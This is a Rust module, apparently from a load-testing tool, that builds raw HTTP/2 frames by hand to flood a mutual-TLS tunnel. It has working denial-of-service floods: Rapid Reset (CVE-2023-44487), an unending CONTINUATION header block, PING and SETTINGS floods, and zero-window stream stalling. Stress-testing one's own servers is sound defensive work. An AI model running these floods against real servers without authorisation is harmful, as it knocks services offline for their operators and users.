//! Floods of a tunnel by frames (RFC 9113), built by hand: a library would not send them.

use std::io::{self, Error, ErrorKind, Read, Write};
use std::net::{SocketAddr, TcpStream};
use std::os::fd::AsFd;
use std::str::FromStr;
use std::sync::Arc;

use nix::poll::{PollFd, PollFlags, PollTimeout, poll};
use rustls::{ClientConfig, ClientConnection};

use crate::tally::{Load, Tally};
use crate::tls;

const PREFACE: &[u8] = b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n";
const HEADERS: u8 = 1;
const RST_STREAM: u8 = 3;
const SETTINGS: u8 = 4;
const PING: u8 = 6;
const GOAWAY: u8 = 7;
const CONTINUATION: u8 = 9;
const END_HEADERS: u8 = 4;
const CANCEL: [u8; 4] = [0, 0, 0, 8];
/// `SETTINGS_INITIAL_WINDOW_SIZE` of 0.
const NO_WINDOW: [u8; 6] = [0, 4, 0, 0, 0, 0];
/// Frames that are made at a time.
const BATCH: u64 = 64;
/// Streams of one connection that waits with a window of 0.
const STALLED: u64 = 100;

/// What to flood with.
#[derive(Clone, Copy, Debug, PartialEq, Eq)]
pub(crate) enum Flood {
    /// Streams that are reset as soon as they are opened (CVE-2023-44487).
    RapidReset,
    /// One header block that never ends.
    Continuation,
    Pings,
    Settings,
    /// Streams whose answers have no window.
    ZeroWindow,
}

impl FromStr for Flood {
    type Err = Error;

    fn from_str(name: &str) -> Result<Self, Error> {
        Ok(match name {
            "rapid-reset" => Self::RapidReset,
            "continuation" => Self::Continuation,
            "pings" => Self::Pings,
            "settings" => Self::Settings,
            "zero-window" => Self::ZeroWindow,
            _ => return Err(Error::other(format!("no such load: {name}"))),
        })
    }
}

impl Flood {
    /// The frames that follow after so many; empty when there are no more to send.
    fn next(self, sent: u64, app: SocketAddr) -> Vec<u8> {
        let mut frames = Vec::new();
        for number in sent..sent + BATCH {
            let stream = u32::try_from(number * 2 + 1).unwrap_or(u32::MAX) & 0x7fff_ffff;
            match self {
                Self::RapidReset => {
                    frame(&mut frames, HEADERS, END_HEADERS, stream, &connect(app));
                    frame(&mut frames, RST_STREAM, 0, stream, &CANCEL);
                }
                Self::Continuation if number == 0 => {
                    frame(&mut frames, HEADERS, 0, 1, &connect(app));
                }
                Self::Continuation => frame(&mut frames, CONTINUATION, 0, 1, &filling()),
                Self::Pings => frame(&mut frames, PING, 0, 0, &number.to_be_bytes()),
                Self::Settings => frame(&mut frames, SETTINGS, 0, 0, &[]),
                Self::ZeroWindow if number < STALLED => {
                    frame(&mut frames, HEADERS, END_HEADERS, stream, &connect(app));
                }
                Self::ZeroWindow => {}
            }
        }
        frames
    }
}

fn frame(to: &mut Vec<u8>, kind: u8, flags: u8, stream: u32, payload: &[u8]) {
    let length = u32::try_from(payload.len()).unwrap_or_default();
    to.extend(&length.to_be_bytes()[1..]);
    to.extend([kind, flags]);
    to.extend(stream.to_be_bytes());
    to.extend(payload);
}

/// HPACK (RFC 7541) without a table of its own: literals under the static table's names for
/// `:method` and `:authority`.
fn connect(app: SocketAddr) -> Vec<u8> {
    let authority = app.to_string();
    let mut block = vec![2, 7];
    block.extend(b"CONNECT");
    block.extend([1, u8::try_from(authority.len()).unwrap_or_default()]);
    block.extend(authority.as_bytes());
    block
}

/// Literals under a new name: 400 bytes of headers.
fn filling() -> Vec<u8> {
    let one = [b"\x00\x02xx\x60".as_slice(), &[b'v'; 96]].concat();
    one.repeat(4)
}

/// One tunnel, flooded until it is closed or the time is over.
pub(crate) fn flood(
    load: &Load,
    tally: &Tally,
    config: &Arc<ClientConfig>,
    flood: Flood,
    app: SocketAddr,
) -> io::Result<()> {
    let mut tunnel = Tunnel::open(load, config)?;
    let first = match flood {
        Flood::ZeroWindow => NO_WINDOW.as_slice(),
        _ => &[],
    };
    let mut opening = PREFACE.to_vec();
    frame(&mut opening, SETTINGS, 0, 0, first);
    tunnel.tls.writer().write_all(&opening)?;
    let mut sent = 0;
    while !load.over() {
        if !tunnel.tls.wants_write() {
            let frames = flood.next(sent, app);
            if !frames.is_empty() {
                tunnel.tls.writer().write_all(&frames)?;
                sent += BATCH;
                tally.done(BATCH);
            }
        }
        tunnel.turn()?;
    }
    Ok(())
}

/// A connection in mutual TLS whose both directions go on while either waits.
struct Tunnel {
    tls: ClientConnection,
    tcp: TcpStream,
    /// What has come and is not a whole frame yet.
    come: Vec<u8>,
}

impl Tunnel {
    fn open(load: &Load, config: &Arc<ClientConfig>) -> io::Result<Self> {
        let (mut tls, mut tcp) = (tls::session(load, config)?, load.connect()?);
        while tls.is_handshaking() {
            tls.complete_io(&mut tcp)?;
        }
        tcp.set_nonblocking(true)?;
        Ok(Self {
            tls,
            tcp,
            come: Vec::new(),
        })
    }

    /// Sends and takes what can be sent and taken now.
    fn turn(&mut self) -> io::Result<()> {
        let mut wanted = PollFlags::POLLIN;
        wanted.set(PollFlags::POLLOUT, self.tls.wants_write());
        let ready = {
            let mut fds = [PollFd::new(self.tcp.as_fd(), wanted)];
            poll(&mut fds, PollTimeout::from(100u8))?;
            fds[0].revents().unwrap_or(PollFlags::empty())
        };
        if ready.contains(PollFlags::POLLOUT) {
            match self.tls.write_tls(&mut self.tcp) {
                Err(error) if error.kind() != ErrorKind::WouldBlock => return Err(error),
                _ => {}
            }
        }
        if ready.intersects(PollFlags::POLLIN | PollFlags::POLLHUP | PollFlags::POLLERR) {
            match self.tls.read_tls(&mut self.tcp) {
                Ok(0) => return Err(ErrorKind::UnexpectedEof.into()),
                Err(error) if error.kind() != ErrorKind::WouldBlock => return Err(error),
                _ => {}
            }
            let state = self.tls.process_new_packets().map_err(Error::other)?;
            let mut plain = vec![0; state.plaintext_bytes_to_read()];
            self.tls.reader().read_exact(&mut plain)?;
            self.come.extend(plain);
            self.take_frames()?;
        }
        Ok(())
    }

    /// Looks for the peer's farewell.
    fn take_frames(&mut self) -> io::Result<()> {
        while let Some(head) = self.come.first_chunk::<9>() {
            let [a, b, c, kind, ..] = *head;
            let length = u32::from_be_bytes([0, a, b, c]) as usize;
            if kind == GOAWAY {
                return Err(ErrorKind::ConnectionAborted.into());
            }
            if self.come.len() < 9 + length {
                return Ok(());
            }
            self.come.drain(..9 + length);
        }
        Ok(())
    }
}
